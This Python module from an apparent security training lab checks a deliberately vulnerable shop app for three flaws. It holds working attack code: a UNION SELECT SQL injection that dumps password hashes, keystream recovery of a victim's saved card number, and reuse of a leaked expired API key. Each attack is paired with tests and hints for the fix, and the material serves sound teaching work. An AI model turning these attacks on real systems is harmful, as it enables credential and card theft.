"""Checks for BrokenShop's data part: saved cards, the friend lookup, the partner API.

Three rows of the seed's summary, each judged over HTTP only:

- ``homemade-crypto`` (09-encryption): *locate* saves a card you know through the marked
  route and XORs its ciphertext against alice's in the breach; *replay* adapts 09's
  tamper/swap/rotation batteries to the cards (09's batteries drive 09's notes routes,
  which the shop does not have) with the same attack, ``recover_with_known_plaintext``.
- ``trusting-input`` (07-injection): *locate* counts columns with ``ORDER BY`` and reads
  every password hash with a ``UNION SELECT`` in the marked route's ``?email=``; *replay*
  sends 07's lookup payloads (:data:`labkit.attacks.injection.PAYLOADS`, judged by 07's own
  :func:`~labkit.attacks.injection.replay`) — 07's ``_injection_battery`` also attacks
  07's login and insert, and reads 07's dump route, so only its lookup half applies here.
- ``eternal-api-key`` (05-api-keys): *locate* uses the partner key from last year's
  integration log at the marked route; *replay* runs 05's revocation, scope and rotation
  batteries unchanged (the shop honours 05's routes).
"""

from __future__ import annotations

import hashlib
import json
from collections.abc import Callable
from typing import Any

import httpx

from labkit.attacks.crypto import recover_with_known_plaintext
from labkit.attacks.injection import PAYLOADS, lookup, replay_all
from labkit.exercises.capstone.antipattern import AntiPattern, fault
from labkit.exercises.check import Findings, Target, Verdict
from labkit.exercises.labs import apikeys as lab05
from labkit.exercises.labs.encryption import _b64, _flip, _refused
from labkit.sandbox.apps.shop.data import luhn_valid

__all__ = ["ANTI_PATTERNS", "KNOWN_CARD"]

ACCOUNTS, BREACH, CARDS, USERS = (
    "/api/_lab/accounts",
    "/api/_lab/breach",
    "/api/cards",
    "/api/users",
)
KEYRING, ROTATE = "/api/_lab/cards/keyring", "/api/_lab/cards/rotate"
ALICE = "alice@example.com"
#: The card the attacker saves: its number is the known plaintext.
KNOWN_CARD = "4242424242424242"
LOOKUP_PAYLOADS = tuple(p for p in PAYLOADS if p.route == "lookup")
LISTED = 4
MAX_COLUMNS = 20


class AppBroken(Exception):
    """The shop cannot do what the check needs to start (log in, save a card)."""


def _login(client: httpx.Client, who: str) -> dict[str, str]:
    """``Authorization`` for the seeded user whose email starts with ``who``."""
    accounts = {a["email"].split("@")[0]: a for a in client.get(ACCOUNTS).json()}
    account = accounts[who]
    response = client.post(
        "/api/auth/login", json={"email": account["email"], "password": account["password"]}
    )
    if response.status_code != 200:
        raise AppBroken(f"logging in as {who} got {response.status_code}{fault(response)}")
    return {"Authorization": f"Bearer {response.json()['accessToken']}"}


def _breach(client: httpx.Client) -> dict[str, list[dict[str, Any]]]:
    return dict(client.get(BREACH).json())


def _user_id(breach: dict[str, list[dict[str, Any]]], email: str) -> Any:
    return next((u["id"] for u in breach.get("users", []) if u["email"] == email), None)


def _stored(row: dict[str, Any]) -> dict[str, Any]:
    try:
        stored = json.loads(row.get("stored") or "{}")
    except ValueError:
        return {}
    return stored if isinstance(stored, dict) else {}


def _cards(breach: dict[str, list[dict[str, Any]]]) -> dict[int, dict[str, Any]]:
    """The breach's cards by id, each with its stored form parsed."""
    return {int(c["id"]): {**c, "stored": _stored(c)} for c in breach.get("cards", [])}


def _safe(locate: Callable[[Target, str, str], Verdict]) -> Callable[[Target, str, str], Verdict]:
    """A locate that cannot crash the audit: whatever goes wrong is its verdict."""

    def run(target: Target, method: str, path: str) -> Verdict:
        try:
            return locate(target, method, path)
        except AppBroken as exc:
            return Verdict(False, str(exc))
        except (KeyError, ValueError, TypeError, httpx.HTTPError) as exc:
            return Verdict(False, f"the exploit could not run at {method} {path} ({exc!r})")

    return run


def _run(battery: Callable[[httpx.Client, Findings], None], target: Target, f: Findings) -> None:
    with target.client() as client:
        try:
            battery(client, f)
        except AppBroken as exc:
            f.fail(str(exc))


# -- homemade-crypto -------------------------------------------------------------------------
def recover_card(victim: dict[str, Any], known: dict[str, Any]) -> str | None:
    """The victim's card number from two stored forms and :data:`KNOWN_CARD`, if the same
    keystream encrypted both (as a stream cipher without a nonce, or GCM with a fixed one)."""
    target, sample = _b64(victim.get("ciphertext")), _b64(known.get("ciphertext"))
    if not target or not sample:
        return None
    for tag in (0, 16):  # a bare stream cipher; GCM's 16-byte tag at the end
        plain = recover_with_known_plaintext(target, sample, KNOWN_CARD.encode(), tag=tag)
        text = plain.decode("ascii", "replace")
        if 12 <= len(text) <= 19 and luhn_valid(text):
            return text
    return None


def _alice_card(client: httpx.Client, breach: dict[str, Any]) -> tuple[dict[str, Any], str]:
    """alice's stored card (from the breach) and its last four digits (as she sees them)."""
    alice = _user_id(breach, ALICE)
    rows = [c for c in _cards(breach).values() if c["owner_id"] == alice]
    if not rows:
        raise AppBroken("alice's saved card is not in the breach (the shop could not seed it)")
    listed = client.get(CARDS, headers=_login(client, "alice"))
    cards = listed.json().get("cards", []) if listed.status_code == 200 else []
    last4 = next((str(c.get("last4")) for c in cards if c.get("id") == rows[0]["id"]), "")
    return rows[0], last4


@_safe
def locate_homemade_crypto(target: Target, method: str, path: str) -> Verdict:
    mark = f"{method} {path}"
    with target.client() as client:
        carol = _login(client, "carol")
        body = {"number": KNOWN_CARD, "holder": "Carol Nguyen"}
        response = client.request(method, path, json=body, headers=carol)
        saved = response.json() if response.is_success else {}
        card_id = saved.get("id") if isinstance(saved, dict) else None
        if not isinstance(card_id, int):
            return Verdict(
                False,
                f"{mark} did not save a card ({response.status_code}): the exploit needs the "
                "route that encrypts a number you chose",
            )
        breach = _breach(client)
        own = _cards(breach).get(card_id)
        if own is None:
            return Verdict(False, f"{mark} answered id {card_id}, but no such card is stored")
        victim, last4 = _alice_card(client, breach)
    number = recover_card(victim["stored"], own["stored"])
    if number is None or (last4 and number[-4:] != last4):
        return Verdict(
            False,
            f"your card's keystream does not decrypt alice's card: {mark} stores cards, but "
            "not with a keystream that repeats",
        )
    return Verdict(
        True,
        f"a card you saved at {mark} decrypted alice's card from the breach: "
        f"•••• •••• •••• {number[-4:]} (all {len(number)} digits)",
        ("ciphertext XOR known number = keystream; the same keystream encrypts every card",),
    )


def _save(client: httpx.Client, auth: dict[str, str], number: str, f: Findings) -> int | None:
    response = client.post(CARDS, json={"number": number, "holder": "Bob Okafor"}, headers=auth)
    if not f.expect(
        response.status_code == 201 and isinstance(response.json().get("id"), int),
        f"saving a card got {response.status_code}{fault(response)}",
    ):
        return None
    return int(response.json()["id"])


def _card_battery(client: httpx.Client, f: Findings) -> None:
    """09's tamper, swap and rotation batteries, on the shop's cards (see the module doc)."""
    bob = _login(client, "bob")
    own = _save(client, bob, "4242 4242 4242 4242", f)
    if own is None:
        return
    listed = client.get(CARDS, headers=bob)
    mine = {c.get("id"): c for c in listed.json().get("cards", [])} if listed.is_success else {}
    if not f.expect(
        mine.get(own, {}).get("last4") == KNOWN_CARD[-4:],
        f"listing your cards got {listed.status_code}{fault(listed)}: a saved card must read "
        "back (decrypt_record returns the plaintext bytes)",
        "a saved card lists masked to its last four digits",
    ):
        return
    breach = _breach(client)
    victim, last4 = _alice_card(client, breach)
    f.expect(
        last4.isdigit() and len(last4) == 4,
        f"alice's card on file no longer reads (last4 {last4!r})",
        "alice's card on file still reads",
    )
    stored = _cards(breach)[own]["stored"]
    sealed = _b64(stored.get("ciphertext"))
    if not f.expect(
        sealed is not None,
        "the stored card needs a base64 'ciphertext' field (09's contract: keyId, nonce, "
        "ciphertext)",
    ):
        return
    f.expect(
        KNOWN_CARD not in json.dumps(stored) and KNOWN_CARD.encode() not in (sealed or b""),
        "the card number is stored in clear text",
    )
    number = recover_card(victim["stored"], stored)
    f.expect(
        number is None,
        f"your known card's ciphertext decrypted alice's card from the breach "
        f"(…{number and number[-4:]}): the same keystream encrypts every card — use a "
        "fresh random nonce per encryption",
        "known plaintext + the breach: alice's card stays unreadable",
    )
    twin = _save(client, bob, KNOWN_CARD, f)
    if twin is None:
        return
    twin_stored = _cards(_breach(client))[twin]["stored"]
    f.expect(
        twin_stored.get("ciphertext") != stored.get("ciphertext"),
        "the same number saved twice gave the same ciphertext: a fresh nonce every time",
        "the same number encrypts differently every time",
    )
    _tampering(client, bob, own, stored, f)
    _swapping(client, bob, twin, twin_stored, victim["stored"], last4, f)
    _rotating(client, bob, own, stored, f)


def _tampering(
    client: httpx.Client, bob: dict[str, str], own: int, stored: dict[str, Any], f: Findings
) -> None:
    length = len(_b64(stored.get("ciphertext")) or b"")
    tampered = {
        "a flipped bit in the first ciphertext byte": _flip(stored, "ciphertext", 0),
        "a flipped bit in the middle": _flip(stored, "ciphertext", length // 2),
        "a flipped bit in the last byte": _flip(stored, "ciphertext", -1),
        "a flipped bit in the nonce": _flip(stored, "nonce", 0),
    }
    for label, changed in tampered.items():
        if changed is None:
            continue
        client.put(f"/api/_lab/cards/{own}", json=changed)
        _refused(
            f,
            client.get(f"{CARDS}/{own}", headers=bob),
            "",
            f"{label} went unnoticed — use an AEAD (AES-GCM)",
            f"{label}: rejected",
        )
    client.put(f"/api/_lab/cards/{own}", json=stored)
    back = client.get(f"{CARDS}/{own}", headers=bob)
    f.expect(
        back.status_code == 200 and back.json().get("last4") == KNOWN_CARD[-4:],
        f"the untouched ciphertext no longer reads ({back.status_code}{fault(back)})",
    )


def _swapping(
    client: httpx.Client,
    bob: dict[str, str],
    row: int,
    own: dict[str, Any],
    victim: dict[str, Any],
    last4: str,
    f: Findings,
) -> None:
    client.put(f"/api/_lab/cards/{row}", json=victim)
    moved = client.get(f"{CARDS}/{row}", headers=bob)
    if moved.status_code == 200:
        shown = moved.json().get("last4") if isinstance(moved.json(), dict) else None
        leaked = f" — it shows alice's •••• {shown}" if last4 and shown == last4 else ""
        f.fail(
            f"alice's ciphertext copied into bob's card row decrypted there{leaked}: bind each "
            "ciphertext to its record id with AAD"
        )
    else:
        _refused(f, moved, "", "", "alice's ciphertext copied into bob's card row: rejected")
    client.put(f"/api/_lab/cards/{row}", json=own)


def _rotating(
    client: httpx.Client, bob: dict[str, str], own: int, stored: dict[str, Any], f: Findings
) -> None:
    primary = client.get(KEYRING).json()["primary"]
    f.expect(
        stored.get("keyId") == primary,
        f"the stored card names key {stored.get('keyId')!r}, not the key it was encrypted "
        f"with ({primary!r}): store key_id as 'keyId'",
        "the stored card names its key id",
    )
    new_key = client.post(ROTATE).json()["primary"]
    old = client.get(f"{CARDS}/{own}", headers=bob)
    f.expect(
        old.status_code == 200 and old.json().get("last4") == KNOWN_CARD[-4:],
        f"after a key rotation, a card saved under the old key got {old.status_code}"
        f"{fault(old)}: decrypt with the key the card names (keyring[stored['keyId']])",
        "after a key rotation, older cards still read",
    )
    fresh = _save(client, bob, KNOWN_CARD, f)
    if fresh is not None:
        key_id = _cards(_breach(client))[fresh]["stored"].get("keyId")
        f.expect(
            key_id == new_key,
            f"a card saved after the rotation names key {key_id!r}, not the new primary",
            "new cards use the new primary key",
        )


def replay_homemade_crypto(patched: Target, findings: Findings) -> None:
    _run(_card_battery, patched, findings)


# -- trusting-input --------------------------------------------------------------------------
def _union_columns(width: int) -> str:
    """A SELECT list of ``width`` columns that puts password hashes where the lookup shows
    text (the first three are id, email, role; the profile's name comes later)."""
    if width <= 3:
        return ", ".join(["password_hash"] * width)
    return ", ".join(["id", "email", "role", *["password_hash"] * (width - 3)])


@_safe
def locate_trusting_input(target: Target, method: str, path: str) -> Verdict:
    mark = f"{method} {path}"
    with target.client() as client:
        client.headers.update(_login(client, "carol"))

        def send(value: str) -> httpx.Response:
            return client.request(method, path, params={"email": value})

        baseline = send("nobody@example.com")
        if baseline.status_code >= 500:
            return Verdict(
                False, f"{mark} fails even for a harmless email ({baseline.status_code})"
            )
        width = 0
        for n in range(1, MAX_COLUMNS + 1):  # labkit.attacks.injection.column_count, here
            if send(f"' ORDER BY {n} --").status_code >= 500:
                width = n - 1
                break
        if width < 1:
            return Verdict(
                False,
                f"' ORDER BY n -- in ?email= never broke a query at {mark}: what you send "
                "there does not reach SQL as code",
            )
        response = send(f"' UNION SELECT {_union_columns(width)} FROM users --")  # noqa: S608
        hashes = {u["email"]: u["password_hash"] for u in _breach(client)["users"]}
    leaked = [e for e, h in hashes.items() if h and str(h) in response.text]
    if not leaked:
        return Verdict(
            False,
            f"the query at {mark} has {width} columns, but a UNION SELECT read no password "
            f"hash ({response.status_code})",
        )
    return Verdict(
        True,
        f"a UNION SELECT in {mark}?email= read {len(leaked)} password hashes "
        f"({width} columns, found with ORDER BY)",
        (f"e.g. {leaked[0]}: {hashes[leaked[0]][:16]}…",),
    )


def _lookup_battery(client: httpx.Client, f: Findings) -> None:
    """07's lookup payloads (judged by 07's ``replay``), then legitimate lookups."""
    client.headers.update(_login(client, "bob"))
    exact = lookup(client, ALICE)
    if not f.expect(
        exact.status_code == 200,
        f"looking up {ALICE} got {exact.status_code}{fault(exact)}",
    ):
        return  # a lookup that always fails would "refuse" every payload too
    found = [o for o in replay_all(client, LOOKUP_PAYLOADS) if o.found]
    for outcome in found[:LISTED]:
        f.fail(f"GET {USERS}: {outcome.payload.id} ({outcome.payload.goal}): {outcome.evidence}")
    if len(found) > LISTED:
        f.fail(f"GET {USERS}: ...and {len(found) - LISTED} more payloads")
    if not found:
        f.saw(f"all {len(LOOKUP_PAYLOADS)} lookup payloads of 07 found nothing")
    f.expect(
        any(u["email"] == ALICE for u in _breach(client).get("users", [])),
        "the users table lost its rows during the payloads",
    )
    emails = [u.get("email") for u in exact.json().get("users", [])]
    f.expect(
        emails == [ALICE],
        f"looking up {ALICE} found {emails}: the friend lookup must find exactly that user",
        "an exact email finds exactly that user",
    )
    wildcards = []
    for probe in ("%", "_lice@example.com", "%@example.com"):
        response = lookup(client, probe)
        rows = response.json().get("users") if response.status_code == 200 else None
        if rows is None:
            f.fail(f"looking up {probe!r} got {response.status_code}{fault(response)}")
        elif rows:
            wildcards.append(f"{probe!r} found {len(rows)}")
    f.expect(
        not wildcards,
        f"{', '.join(wildcards)}: '%' and '_' are characters of an email, not wildcards "
        "(use =, not LIKE)",
        "'%' and '_' are literal characters: they match nobody",
    )
    quote = lookup(client, "o'brien@example.com")
    f.expect(
        quote.status_code == 200,
        f"an email with an apostrophe got {quote.status_code}{fault(quote)}: a quote is data",
        "an email with an apostrophe is just an email (200)",
    )


def replay_trusting_input(patched: Target, findings: Findings) -> None:
    _run(_lookup_battery, patched, findings)


# -- eternal-api-key -------------------------------------------------------------------------
def _leaked_key(client: httpx.Client) -> str:
    content = client.get("/api/_lab/old-config").json()["content"]
    return str(content.split("REPORTS_API_KEY=", 1)[1].split()[0])


@_safe
def locate_eternal_api_key(target: Target, method: str, path: str) -> Verdict:
    mark = f"{method} {path}"
    with target.client() as client:
        key = _leaked_key(client)
        body = {"title": "audit probe"} if method in {"POST", "PUT", "PATCH"} else None
        without = client.request(method, path, json=body)
        keyed = client.request(method, path, json=body, headers={lab05.HEADER: key})
        digest = hashlib.sha256(key.encode()).hexdigest()
        row = next((k for k in _breach(client)["api_keys"] if k["key_hash"] == digest), {})
        now = client.get(lab05.CLOCK).json()["now"]
    if not keyed.is_success:
        return Verdict(
            False,
            f"last year's partner key got {keyed.status_code} at {mark}: it is not honoured "
            "there (try the API the partner called)",
        )
    if without.is_success:
        return Verdict(
            False, f"{mark} answers {without.status_code} without any key: no key is needed there"
        )
    age = (now - row["created_at"]) / lab05.DAY if row else 0
    expired = (now - row["expires_at"]) / lab05.DAY if row and row.get("expires_at") else 0
    return Verdict(
        True,
        f"the key from last year's integration log still works at {mark} ({keyed.status_code})",
        (f"issued {age:.0f} days ago, expired {expired:.0f} days ago: one key forever",),
    )


def replay_eternal_api_key(patched: Target, findings: Findings) -> None:
    """05's batteries, unchanged: the shop serves 05's routes."""
    batteries = {
        "revocation and expiry": lab05._revocation_battery,
        "scopes": lab05._scope_battery,
        "rotation": lab05._rotation_battery,
    }
    with patched.client() as client:
        for name, battery in batteries.items():
            with findings.section(name):
                lab05._run(battery, client, findings)


ANTI_PATTERNS: tuple[AntiPattern, ...] = (
    AntiPattern(
        id="homemade-crypto",
        avoid="Rolling your own crypto",
        instead="Use established libraries (jose, bcrypt)",
        lab="09-encryption",
        fixes=("encrypt_record", "decrypt_record"),
        locate=locate_homemade_crypto,
        replay=replay_homemade_crypto,
        title="Saved cards: AES-256-GCM from a library, not a home-made cipher",
        hints=(
            "Where does the shop encrypt something you choose? Save a card whose number you "
            "know (4242 4242 4242 4242 is a test card).",
            "The breach (/api/_lab/breach) shows every stored card. Is the number XOR-ed with "
            "the same keystream each time?",
            "labkit.attacks.crypto.recover_with_known_plaintext(alice_ct, your_ct, your_number, "
            "tag=0) — then mark the route that stored your card.",
        ),
        fix_hints=(
            "Your encrypt_record/decrypt_record from 09 plug in unchanged: the shop calls them "
            "with record_id 'card:<id>'.",
            "AESGCM(key).encrypt(os.urandom(12), plaintext, aad) with aad naming the record "
            "id and key id; store keyId, nonce and ciphertext as base64 text.",
            "decrypt_record: keyring.get(stored['keyId']), catch InvalidTag → return None.",
        ),
    ),
    AntiPattern(
        id="trusting-input",
        avoid="Trusting user input",
        instead="Validate with zod/joi, parameterized queries",
        lab="07-injection",
        fixes=("find_users",),
        locate=locate_trusting_input,
        replay=replay_trusting_input,
        title="The friend lookup: a parameterized query",
        hints=(
            "Which route takes an email in its query string? Log in first: "
            "lab.client.headers['Authorization'] = 'Bearer ' + token.",
            "A lone quote in ?email= — does the shop answer 500 with SQLite's message?",
            "injection.column_count(lab.client), then injection.union_read(lab.client, "
            "'SELECT id, email, role, password_hash, ... FROM users').",
        ),
        fix_hints=(
            "Your find_users from 07 plugs in unchanged: db has a users table with 07's "
            "columns (id, email, name, age, role...).",
            "db.execute('SELECT id, email, name, age, role FROM users WHERE email = ?', "
            "(email,)).fetchall()",
            "No LIKE (a '%' would list everyone), no blocklists, no escaping by hand.",
        ),
    ),
    AntiPattern(
        id="eternal-api-key",
        avoid="Same API key forever",
        instead="Rotate keys regularly, support multiple active",
        lab="05-api-keys",
        fixes=("authenticate",),
        locate=locate_eternal_api_key,
        replay=replay_eternal_api_key,
        title="The partner API: keys expire, revoked keys stop, scopes hold",
        hints=(
            "A partner's integration log from last year sits on a shared drive: "
            "lab.client.get('/api/_lab/old-config').json()['content'].",
            "Its REPORTS_API_KEY expired long ago. Send it as X-API-Key.",
            "Mark the route it still opens.",
        ),
        fix_hints=(
            "Your authenticate from 05 plugs in unchanged (same find_key and row).",
            "Usable only when record.revoked_at is None and now < record.expires_at "
            "(no expiry = not usable); 401 'Invalid API key' otherwise.",
            "scope not in record.scopes → (403, {'error': 'Insufficient permissions'}).",
        ),
    ),
)
